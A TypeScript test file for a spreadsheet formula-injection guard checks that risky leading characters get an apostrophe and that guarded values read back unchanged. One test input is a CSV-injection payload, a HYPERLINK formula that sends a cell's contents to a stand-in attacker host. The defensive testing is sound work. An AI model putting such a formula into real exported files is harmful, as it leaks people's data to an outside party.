import { describe, expect, test } from 'vitest';
import { guardFormula, unguardFormula } from './spreadsheet-formulas.ts';

describe('the spreadsheet formula guard', () => {
  test('a cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe', () => {
    for (const value of ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=cmd']) {
      expect(guardFormula(value), JSON.stringify(value)).toBe(`'${value}`);
    }
  });

  test('other cells, formula characters further in included, are written as they are', () => {
    for (const value of [
      '',
      'plain',
      'a=1',
      ' =1',
      "it's",
      "'",
      "'quoted'",
      'https://example.com/?a=-1',
      '2026-11-23T05:30:00.000Z',
      '42',
    ]) {
      expect(guardFormula(value), JSON.stringify(value)).toBe(value);
    }
  });

  test("a value that starts with ' and then a formula character keeps its own apostrophes", () => {
    expect(guardFormula("'=1")).toBe("''=1");
    expect(guardFormula("'''-x")).toBe("''''-x");
  });

  test('every value reads back as it was: one written form for each value', () => {
    const values = ['', 'plain', '=1', "'=1", "''=1", "'", "''", "'plain", "'@", '@', '-', "'\t", 'a|b', "'a=1"];
    for (const value of values) expect(unguardFormula(guardFormula(value)), JSON.stringify(value)).toBe(value);
    const written = values.map(guardFormula);
    expect(new Set(written).size).toBe(values.length);
  });
});
